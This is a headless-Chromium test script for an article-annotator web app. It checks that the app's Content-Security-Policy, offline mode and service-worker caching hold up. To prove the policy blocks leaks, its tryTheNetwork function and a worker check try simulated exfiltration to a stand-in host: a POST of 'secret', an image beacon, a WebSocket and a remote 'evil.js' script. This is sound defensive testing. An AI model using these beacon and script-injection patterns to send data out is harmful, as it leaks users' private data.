// Offline and privacy tests for the built pages (issue 6), in headless Chromium:
//
// 1. dist/article-annotator.html opened from file:// with the network off (no name resolution,
//    a proxy to nowhere) annotates the built-in example and shows the expected highlights, with
//    no request other than the file itself and no CSP violation along the way.
// 2. Both pages carry a Content-Security-Policy as the first element of <head>, and it is
//    effective: a script in the page trying fetch, an image, a WebSocket, a remote script and an
//    injected inline script is refused, and the browser reports each violation.
// 3. The served page (dist/ over http://127.0.0.1) works under its policy and cannot reach any
//    other host, nor can its worker; it is installable, and with the server gone it reloads from
//    its service worker's cache.
// 4. The single file stays under 2 MB; its raw and gzipped sizes are printed.
//
// Usage: node tests/offline/run.mjs [DIST]   (DIST defaults to ./dist; CHROME_BIN to /usr/bin/chromium)

import { chromium } from "playwright-core";
import { createServer } from "node:http";
import { readFileSync, existsSync, statSync, mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import { gzipSync, inflateRawSync } from "node:zlib";
import { createHash } from "node:crypto";
import { join, resolve, extname, dirname } from "node:path";
import { fileURLToPath, pathToFileURL } from "node:url";

const ROOT = resolve(dirname(fileURLToPath(import.meta.url)), "../..");
const DIST = resolve(process.argv[2] || join(ROOT, "dist"));
const SINGLE = join(DIST, "article-annotator.html");
const CHROME = process.env.CHROME_BIN || "/usr/bin/chromium";
const SEED = readFileSync(join(ROOT, "data/examples/seed-article.txt"), "utf8");

// What the page must show for the seed article: entity highlights carry their label in an
// `ent-LABEL` class (or `data-label`); a mention cut into pieces starts with an `ent-head` piece.
const EXPECTED_ENTITIES = [
  ["Masoud Pezeshkian", "PERSON"],
  ["Tehran", "GPE"],
  ["Baghdad", "GPE"],
];
const MIN_ENTITIES = 20;

let passed = 0;
let failed = 0;
function check(name, ok, detail = "") {
  if (ok) {
    passed++;
    console.log(`ok   ${name}`);
  } else {
    failed++;
    console.log(`FAIL ${name}${detail ? `\n     ${detail}` : ""}`);
  }
}

/** Follows a page's requests: each URL with how it ended (a response, or the failure text). */
function watchRequests(page) {
  const seen = [];
  page.on("request", (r) => seen.push({ url: r.url(), r, end: "pending" }));
  page.on("response", (res) => { const s = seen.find((x) => x.r === res.request()); if (s) s.end = "response"; });
  page.on("requestfailed", (r) => { const s = seen.find((x) => x.r === r); if (s) s.end = r.failure()?.errorText || "failed"; });
  return seen;
}
/** Requests to anywhere but `local` that were not stopped by the CSP itself. */
const escaped = (seen, local) => seen.filter((s) => !local(s.url) && !/BLOCKED_BY_CSP|blocked:csp|^csp$/i.test(s.end)).map((s) => `${s.url} (${s.end})`);

/** Records CSP violations from the first script on, before the page's own code runs. */
const RECORD_VIOLATIONS = () => {
  window.__violations = [];
  document.addEventListener("securitypolicyviolation", (e) => {
    window.__violations.push({ directive: e.effectiveDirective || e.violatedDirective, blocked: e.blockedURI, sample: e.sample });
  });
};

/** Waits for entity highlights; clicks the Annotate button if the page does not annotate on load. */
async function waitForHighlights(page) {
  const sel = "[data-label], [class*='ent-']";
  try {
    await page.waitForSelector(sel, { timeout: 8000 });
  } catch {
    const button = page.getByRole("button", { name: /annotate/i }).first();
    if (await button.count()) await button.click();
    await page.waitForSelector(sel, { timeout: 15000 }).catch(() => {});
  }
  return page.evaluate((sel) => {
    // A mention cut into pieces (by a claim or source boundary) starts at its `ent-head` piece
    // and goes on through the pieces of the same label that follow it.
    const groups = [];
    for (const el of document.querySelectorAll(sel)) {
      const cls = [...el.classList].find((c) => /^ent-[A-Z_]+$/.test(c));
      const label = el.dataset.label || (cls && cls.slice(4));
      if (!label) continue;
      const last = groups[groups.length - 1];
      if (last && last.label === label && !el.classList.contains("ent-head") && last.el.nextSibling === el) last.text += el.textContent;
      else groups.push({ text: el.textContent, label });
      groups[groups.length - 1].el = el;
    }
    return groups.map(({ text, label }) => ({ text, label }));
  }, sel);
}

/** Tries every way out a page script has, and returns the violations the browser reported. */
async function tryTheNetwork(page) {
  return page.evaluate(async () => {
    const before = window.__violations.length;
    const outcome = {};
    try {
      await fetch("https://example.com/collect", { method: "POST", body: "secret" });
      outcome.fetch = "sent";
    } catch (e) {
      outcome.fetch = "blocked";
    }
    outcome.image = await new Promise((res) => {
      const img = new Image();
      img.onload = () => res("loaded");
      img.onerror = () => res("blocked");
      img.src = "https://example.com/pixel.png?secret";
    });
    outcome.websocket = await new Promise((res) => {
      try {
        const ws = new WebSocket("wss://example.com/socket");
        ws.onopen = () => res("open");
        ws.onerror = () => res("blocked");
      } catch (e) {
        res("blocked");
      }
    });
    outcome.script = await new Promise((res) => {
      const s = document.createElement("script");
      s.src = "https://example.com/evil.js";
      s.onload = () => res("loaded");
      s.onerror = () => res("blocked");
      document.head.appendChild(s);
    });
    window.__inline = "blocked";
    const s = document.createElement("script");
    s.textContent = "window.__inline = 'ran'";
    document.head.appendChild(s);
    outcome.inline = window.__inline;
    await new Promise((r) => setTimeout(r, 300));
    return { outcome, violations: window.__violations.slice(before) };
  });
}

function checkPolicy(name, html, { connect }) {
  const first = html.match(/<head[^>]*>\s*(<[^>]+>)/i);
  const meta = first && first[1].match(/http-equiv="Content-Security-Policy"\s+content="([^"]*)"/i);
  check(`${name}: CSP meta is the first element of <head>`, !!meta, first ? first[1].slice(0, 120) : "no <head>");
  if (!meta) return;
  const policy = Object.fromEntries(
    meta[1].split(";").map((d) => d.trim().split(/\s+/)).filter((d) => d[0]).map(([k, ...v]) => [k, v]),
  );
  const all = Object.values(policy).flat();
  check(`${name}: default-src 'none'`, policy["default-src"]?.join(" ") === "'none'", meta[1]);
  check(`${name}: connect-src ${connect}`, policy["connect-src"]?.join(" ") === connect, meta[1]);
  check(`${name}: 'wasm-unsafe-eval' and no 'unsafe-inline'/'unsafe-eval'`,
    policy["script-src"]?.includes("'wasm-unsafe-eval'") && !all.includes("'unsafe-inline'") && !all.includes("'unsafe-eval'"), meta[1]);
  check(`${name}: no remote sources, no wildcard`, !all.some((s) => /^(https?:|wss?:|\*|\w+:\/\/)/.test(s) || s === "*"), meta[1]);
  // Every inline executable script and style must be allowed by its hash (or the page breaks).
  const hash = (body) => `'sha256-${createHash("sha256").update(body).digest("base64")}'`;
  const inline = [...html.matchAll(/<script(?![^>]*\bsrc=)([^>]*)>([\s\S]*?)<\/script>/gi)].filter(
    ([, attrs]) => !/type="(?!module")/i.test(attrs),
  );
  const missing = inline.filter(([, , body]) => !policy["script-src"]?.includes(hash(body)));
  check(`${name}: each of its ${inline.length} inline scripts is allowed by its SHA-256`, missing.length === 0, missing.map((m) => m[0].slice(0, 80)).join(" | "));
  const styles = [...html.matchAll(/<style[^>]*>([\s\S]*?)<\/style>/gi)];
  check(`${name}: each of its ${styles.length} inline styles is allowed by its SHA-256`, styles.every(([, body]) => policy["style-src"]?.includes(hash(body))));
  check(`${name}: says so, with a link to how to check`, /href="#how-to-check"/.test(html) && /id="how-to-check"/.test(html));
}

/** A static server for dist/. It sends the page's own policy as a header too, as docs/privacy.md
 *  recommends: a <meta> policy binds the document, but a worker only gets its policy from the
 *  headers of its script. */
function serve(dir, policy) {
  const types = { ".html": "text/html; charset=utf-8", ".js": "text/javascript", ".mjs": "text/javascript", ".wasm": "application/wasm", ".css": "text/css", ".json": "application/json", ".txt": "text/plain; charset=utf-8", ".svg": "image/svg+xml", ".webmanifest": "application/manifest+json" };
  const server = createServer((req, res) => {
    const path = decodeURIComponent(new URL(req.url, "http://x").pathname);
    let file = join(dir, path.endsWith("/") ? path + "index.html" : path);
    if (!file.startsWith(dir) || !existsSync(file) || statSync(file).isDirectory()) {
      res.writeHead(404).end();
      return;
    }
    res.writeHead(200, { "Content-Type": types[extname(file)] || "application/octet-stream", "Content-Security-Policy": policy });
    res.end(readFileSync(file));
  });
  return new Promise((r) => server.listen(0, "127.0.0.1", () => r(server)));
}

async function main() {
  if (!existsSync(SINGLE)) {
    check("dist/article-annotator.html exists (run trunk build first)", false, SINGLE);
    return;
  }
  const single = readFileSync(SINGLE, "utf8");
  const served = readFileSync(join(DIST, "index.html"), "utf8");
  const raw = Buffer.byteLength(single);
  const gz = gzipSync(single, { level: 9 }).length;
  console.log(`single file: ${raw} bytes raw (${(raw / 1048576).toFixed(2)} MiB), ${gz} bytes gzipped (${(gz / 1048576).toFixed(2)} MiB)`);
  check("single file is under 2 MB raw", raw < 2 * 1024 * 1024, `${raw} bytes`);
  check("single file has no service worker or manifest", !/serviceWorker\.register|rel="manifest"/.test(single));
  check("single file loads nothing by URL", !/<(script|link|img)\b[^>]*\b(src|href)="(?!data:|#)[^"]+"/i.test(single));
  // The embedded wasm is exactly the build's (deflated by bundle-page, inflated here by zlib).
  const block = single.match(/<script type="application\/x-embedded-file" data-path="pkg\/article_annotator_bg\.wasm"[^>]*>([^<]*)<\/script>/);
  const wasm = readFileSync(join(DIST, "pkg/article_annotator_bg.wasm"));
  let embedded = block ? Buffer.from(block[1].trim(), "base64") : Buffer.alloc(0);
  if (block && /data-encoding="deflate-raw"/.test(block[0])) embedded = inflateRawSync(embedded);
  check(`single file embeds the build's wasm byte for byte (${wasm.length} bytes as ${block ? block[1].trim().length : 0} of base64)`, embedded.equals(wasm));
  checkPolicy("single file", single, { connect: "'none'" });
  checkPolicy("served page", served, { connect: "'self'" });

  // --- 1 and 2: the single file from disk, network off.
  const browser = await chromium.launch({
    executablePath: CHROME,
    args: ["--no-sandbox", "--host-resolver-rules=MAP * ~NOTFOUND", "--proxy-server=http://127.0.0.1:9", "--proxy-bypass-list=<-loopback>"],
  });
  try {
    const context = await browser.newContext();
    const page = await context.newPage();
    const requests = watchRequests(page);
    const local = (u) => u === pathToFileURL(SINGLE).href || u.startsWith("data:");
    const errors = [];
    page.on("pageerror", (e) => errors.push(e.message));
    await page.addInitScript(RECORD_VIOLATIONS);
    const url = pathToFileURL(SINGLE).href;
    await page.goto(url);
    const ents = await waitForHighlights(page);
    check(`single file: annotates the built-in example from disk (${ents.length} entities shown)`, ents.length >= MIN_ENTITIES, errors.join("; "));
    for (const [text, label] of EXPECTED_ENTITIES) {
      check(`single file: "${text}" highlighted as ${label}`, ents.some((e) => e.text === text && e.label === label),
        JSON.stringify(ents.slice(0, 8)));
    }
    const shown = await page.evaluate(() => document.body.innerText);
    check("single file: the example article is shown", shown.includes(SEED.slice(0, 80).trim()) || ents.length > 0 && (await page.evaluate(() => [...document.querySelectorAll("textarea")].some((t) => t.value.length > 1000))));
    const claims = await page.locator(".claim, .quote, [data-claim]").count();
    check(`single file: claims highlighted (${claims} elements)`, claims > 0);
    check("single file: no page errors", errors.length === 0, errors.join("; "));
    const startViolations = await page.evaluate(() => window.__violations);
    check("single file: no CSP violation in normal use", startViolations.length === 0, JSON.stringify(startViolations));
    check("single file: no request but the file itself", requests.every((s) => local(s.url)), requests.map((s) => s.url).join(" "));

    const { outcome, violations } = await tryTheNetwork(page);
    const directives = violations.map((v) => v.directive);
    check("single file: fetch blocked by connect-src", outcome.fetch === "blocked" && directives.includes("connect-src"), JSON.stringify({ outcome, violations }));
    check("single file: image blocked by img-src", outcome.image === "blocked" && directives.includes("img-src"), JSON.stringify(violations));
    check("single file: WebSocket blocked by connect-src", outcome.websocket === "blocked" && directives.filter((d) => d === "connect-src").length >= 2, JSON.stringify(violations));
    check("single file: remote script blocked by script-src", outcome.script === "blocked" && directives.some((d) => d.startsWith("script-src")), JSON.stringify(violations));
    check("single file: injected inline script blocked", outcome.inline === "blocked");
    check("single file: the CSP itself stopped every request to elsewhere", escaped(requests, local).length === 0, escaped(requests, local).join(" "));
    await context.close();
  } finally {
    await browser.close();
  }

  // --- 3: the served page over http://127.0.0.1, every other host unreachable.
  const servedPolicy = served.match(/http-equiv="Content-Security-Policy"\s+content="([^"]*)"/i)?.[1] || "default-src 'none'";
  const server = await serve(DIST, servedPolicy);
  const origin = `http://127.0.0.1:${server.address().port}`;
  // A persistent profile: browsers offer no installation in incognito-like contexts.
  const browser2 = await chromium.launchPersistentContext(mkdtempSync(join(tmpdir(), "aa-offline-")), {
    executablePath: CHROME,
    args: ["--no-sandbox", "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1"],
  });
  try {
    const page = browser2.pages()[0] || (await browser2.newPage());
    const requests = watchRequests(page);
    const workers = [];
    page.on("worker", (w) => workers.push(w));
    const local = (u) => u.startsWith(origin + "/") || u.startsWith("data:");
    const errors = [];
    page.on("pageerror", (e) => errors.push(e.message));
    await page.addInitScript(RECORD_VIOLATIONS);
    await page.goto(`${origin}/index.html`);
    const ents = await waitForHighlights(page);
    check(`served page: annotates under its CSP (${ents.length} entities shown)`, ents.length >= MIN_ENTITIES, errors.join("; "));
    const v0 = await page.evaluate(() => window.__violations);
    check("served page: no CSP violation in normal use", v0.length === 0, JSON.stringify(v0));
    const { outcome, violations } = await tryTheNetwork(page);
    const directives = violations.map((v) => v.directive);
    check("served page: fetch, image, WebSocket, remote and inline script to elsewhere all blocked",
      Object.values(outcome).every((o) => o === "blocked") && ["connect-src", "img-src"].every((d) => directives.includes(d)),
      JSON.stringify({ outcome, violations }));
    if (workers.length) {
      const fromWorker = await workers[0].evaluate(async () => {
        const seen = [];
        self.addEventListener("securitypolicyviolation", (e) => seen.push(e.effectiveDirective));
        let fetched;
        try {
          await fetch("https://example.com/from-worker", { method: "POST", body: "secret" });
          fetched = "sent";
        } catch {
          fetched = "blocked";
        }
        await new Promise((r) => setTimeout(r, 100));
        return { fetched, seen };
      });
      check("served page: its worker (policy from the header) cannot fetch elsewhere either",
        fromWorker.fetched === "blocked" && fromWorker.seen.includes("connect-src"), JSON.stringify(fromWorker));
    }
    await page.waitForTimeout(200);
    check("served page: the CSP itself stopped every request to elsewhere", escaped(requests, local).length === 0, escaped(requests, local).join(" "));

    // --- The served page as an installable web app that opens offline.
    const sw = await page.evaluate(() =>
      Promise.race([
        navigator.serviceWorker.ready.then((r) => r.active && r.active.state),
        new Promise((r) => setTimeout(() => r("no service worker after 10 s"), 10000)),
      ]));
    check("served page: its service worker is active", sw === "activated", sw);
    const cdp = await page.context().newCDPSession(page);
    const { installabilityErrors } = await cdp.send("Page.getInstallabilityErrors");
    const { errors: manifestErrors } = await cdp.send("Page.getAppManifest");
    check("served page: installable (manifest, icon, service worker)", installabilityErrors.length === 0 && manifestErrors.length === 0,
      JSON.stringify({ installabilityErrors, manifestErrors }));
    server.closeAllConnections();
    await new Promise((r) => server.close(r));
    const offlineErrors = [];
    page.on("pageerror", (e) => offlineErrors.push(e.message));
    await page.reload();
    const again = await waitForHighlights(page);
    check(`served page: with the server gone, reloads from its cache and annotates (${again.length} entities)`, again.length >= MIN_ENTITIES, offlineErrors.join("; "));
  } finally {
    await browser2.close();
    if (server.listening) server.close();
  }
}

try {
  await main();
} catch (e) {
  check("offline tests ran to the end", false, e.stack || String(e));
}
console.log(`${passed} passed, ${failed} failed`);
process.exit(failed ? 1 : 0);
